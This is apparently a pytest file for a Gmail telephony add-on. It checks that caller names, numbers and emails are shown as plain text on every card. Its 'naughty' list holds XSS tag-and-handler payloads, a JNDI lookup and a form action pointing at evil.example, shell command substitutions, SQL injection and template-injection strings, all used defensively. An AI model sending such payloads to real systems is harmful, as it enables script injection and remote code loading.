"""What a caller wrote into a call stays text on every card: only our own tags are found, and Google takes the card."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from addon.domain.presence import LiveCall, Presence
from contract import wire
from contract.calls import CallId, CallState, Device, Direction, Outcome, Party, RecordingRule
from contract.events import CallEnded, RecordingFailed
from contract.numbers import LineId, TenantId, UserId
from contract.route_plan import RoutePlan, RouteRequest
from tests.addon.app.test_clicks import event, signed
from tests.cast import NOW, House
from workbench.card_check import check_reply

pytestmark = pytest.mark.pure
ACME, ALICE = TenantId("acme"), UserId("alice")
HTML_FIELDS = {"text", "topLabel", "bottomLabel"}


def naughty() -> list[str]:
    """More than 485 strings that have broken somebody's page: tags, handlers, addresses, escapes, directions, templates, sizes."""
    tags = [
        "script",
        "img",
        "svg",
        "iframe",
        "a",
        "b",
        "font",
        "time",
        "style",
        "math",
        "details",
        "body",
        "input",
        "form",
        "object",
        "embed",
        "meta",
        "link",
    ]
    handlers = ["onerror=alert(1)", "onload=alert(1)", "onclick=alert(1)", "onfocus=alert(1) autofocus", "href=javascript:alert(1)",
                "src=x", "href='data:text/html,<script>1</script>'", "style=position:fixed", "srcdoc='<p>'", "formaction=//evil.example"]  # fmt: skip
    found = [f"<{tag} {handler}>x</{tag}>" for tag in tags for handler in handlers]
    found += [f"<{tag}/{handler}//" for tag in tags for handler in handlers[:5]]
    wraps = [
        "'%s",
        '"%s',
        "'>%s",
        '">%s',
        "--><!--%s",
        "]]>%s",
        "</b>%s<b>",
        "<br>%s",
        "&lt;%s",
        "%%3C%s",
        "\\u003c%s",
        "\\x3c%s",
        "&#60;%s",
        "&#x3c;%s",
    ]
    found += [wrap % f"{tag} onerror=alert(1)>" for wrap in wraps for tag in tags[:12]]
    found += [f"{{{{{x}}}}}" for x in ("7*7", "constructor.constructor('alert(1)')()", "config", "''.__class__")]
    found += [
        "{0}",
        "{who}",
        "{name.__class__}",
        "%s%s%s%n",
        "${jndi:ldap://evil.example/a}",
        "$(reboot)",
        "`id`",
        "'; DROP TABLE documents; --",
        "=1+1",
        "@SUM(1)",
    ]
    found += [f"{c}x{c}" for c in "\u202e\u202d\u2066\u2067\u200f\ufeff\u0085\u2028\u2029\x00\x07\x1b\x7f\x9b"]
    found += [
        "\r\nSubject: x",
        "\n\n<h1>",
        "a\tb",
        "\x1b[2J",
        "ÅÍÎÏ˝ÓÔ\uf8ff",
        "田中さん",
        "﷽" * 20,
        "😀" * 50,
        "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
        "محمد <b>",
        "ה" * 300,
    ]
    found += ["x" * size for size in (1, 60, 61, 119, 120, 121, 2000)] + [f"<{'b' * size}>" for size in (1, 60, 1000)]
    found += [
        "",
        " ",
        "null",
        "undefined",
        "NaN",
        "true",
        "[]",
        "{}",
        "\\",
        "\\\\",
        '"',
        "'",
        "&",
        "<",
        ">",
        "&amp;",
        "&amp;lt;b&amp;gt;",
        "+1<script>",
    ]
    return found


def only_our_tags(node: Any) -> None:
    if isinstance(node, dict):
        for key, value in node.items():
            if key in HTML_FIELDS and isinstance(value, str) and "onClick" not in node:
                assert set(re.findall(r"<[^>]*>?", value)) <= {"<b>", "</b>", "<br>"}, value
            only_our_tags(value)
    elif isinstance(node, list):
        for item in node:
            only_our_tags(item)


@pytest.fixture
def house(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> House:
    made = House(tmp_path)
    monkeypatch.setattr(
        "google.auth._helpers.utcnow", lambda: datetime.fromtimestamp(made.now, UTC).replace(tzinfo=None)
    )
    return made


def ended(number: int, name: str, address: str, outcome: Outcome) -> CallEnded:
    call = CallId(f"n{number}")
    return CallEnded(
        f"{call}:ended", 1, call, ACME, ALICE, LineId("pbx"), Direction.INBOUND, Device.BROWSER, Party(address, name), outcome,
        NOW + number, None, NOW + number + 1, 0.0, RecordingRule.RECORDED,
    )  # fmt: skip


def shown(house: House, path: str, **parameters: str) -> Any:
    answer = house.post(path, house.event(parameters=parameters))
    assert answer.status_code == 200 and check_reply(answer.json, wrapped=path.startswith("/do/")) == []
    assert "tell your administrator this code" not in answer.text
    only_our_tags(answer.json)
    return answer.json


def test_names_and_numbers_from_the_telephone_network_stay_text(
    house: House, capsys: pytest.CaptureFixture[str]
) -> None:
    strings = naughty()
    stored = 0
    for number, text in enumerate(strings):
        outcome = list(Outcome)[number % len(Outcome)]
        status = event(ended(number, text, text if number % 2 else "+593987654321", outcome), house)
        assert status == 204, ascii(text)
        stored += status == 204
        if number % 5 == 0:
            assert event(RecordingFailed(f"n{number}:rec", 2, CallId(f"n{number}"), ACME, ALICE, text), house) == 204
        if number % 40 == 39:
            shown(house, "/do/recent.show")
            shown(house, "/on/gmail.homepage")
        if number % 7 == 0:
            shown(house, "/do/call.show", call=f"n{number}")
    with capsys.disabled():
        print(f"\nstrings from the phone: {stored} stored and shown")
    assert stored >= 485


def test_a_call_that_is_up_shows_its_party_as_text(house: House) -> None:
    for text in naughty()[::4]:
        party = Party(text, text)
        house.telephony.presence_now = Presence(
            True, True, (LiveCall(CallId("l1"), Direction.INBOUND, CallState.ACTIVE, party, 5, True),)
        )
        shown(house, "/on/gmail.homepage")


def test_a_route_is_answered_for_any_caller_and_their_words_are_not_echoed(house: House) -> None:
    for number, text in enumerate(naughty()[::3]):
        ask = RouteRequest(CallId(f"i{number}"), ACME, LineId("pbx"), "1001", Party(text, text))
        answer = signed(house, "POST", "/telephony/route", wire.dumps(ask))
        assert answer.status_code == 200, ascii(text)
        assert wire.loads(answer.data, RoutePlan).caller_name == ""


def test_names_in_a_mail_and_in_contacts_stay_text(house: House) -> None:
    for text in naughty()[::6]:
        for path in ("/do/person.show", "/do/contact.form"):
            shown(house, path, email=f"{text}@x.example"[:300], name=text, number=text)
        house.mail.text = f"{text} 098 765 4321 {text}"
        shown(house, "/on/gmail.message")
